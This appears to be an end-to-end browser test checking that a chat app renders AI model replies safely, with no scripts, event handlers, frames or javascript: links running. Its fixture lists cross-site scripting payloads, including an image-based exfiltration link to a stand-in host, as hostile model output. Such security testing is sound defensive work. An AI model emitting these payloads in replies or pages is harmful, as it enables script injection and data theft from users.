// Journey: a model reply carrying markup that would run script renders inert — no script,
// event handler, frame or javascript: link from model output ever runs — and links open safely.
import { createFlow, expect, test } from "../support/fixtures.js";
import { messagesOf, oneAgent, runFromEditor, runStatus, transcript } from "../support/runs.js";

const HOSTILE = [
  `<img src=x onerror="window.__xss=1"> [click](javascript:window.__xss=2)`,
  `<script>window.__xss=3</script> <iframe src="javascript:window.__xss=4"></iframe>`,
  `<a href="javascript:window.__xss=5" onclick="window.__xss=6">tap</a> <div onmouseover="window.__xss=7">hover</div>`,
  `![pixel](https://example.invalid/leak?data=secret) [docs](https://example.com/docs) <form action="https://example.invalid"><button>go</button></form>`,
].join("\n\n");

test("hostile markup in a model reply renders inert", async ({ page, request }) => {
  const flowId = await createFlow(request, oneAgent(HOSTILE));
  await runFromEditor(page, flowId, "Say something nasty");
  await expect(runStatus(page)).toHaveText("Completed");
  const reply = messagesOf(page, "writer");
  await expect(reply).toContainText("click");

  // The reply and the run's output (the same text) are both in the transcript.
  const shown = transcript(page);
  await expect(shown.locator("img, script, iframe, form, button")).toHaveCount(0);
  await expect(shown.locator("[onerror], [onclick], [onmouseover]")).toHaveCount(0);
  await expect(shown.locator('a[href^="javascript:" i]')).toHaveCount(0);
  // Images are links, never loaded; links open in a new tab that cannot reach this one.
  await expect(reply.getByRole("link", { name: "pixel" })).toHaveAttribute("href", "https://example.invalid/leak?data=secret");
  const docs = reply.getByRole("link", { name: "docs" });
  await expect(docs).toHaveAttribute("target", "_blank");
  await expect(docs).toHaveAttribute("rel", "noopener noreferrer");

  await reply.getByText("click").click();
  await reply.getByText("tap").click();
  await reply.getByText("hover").hover();
  expect(await page.evaluate("window.__xss")).toBeUndefined();
});
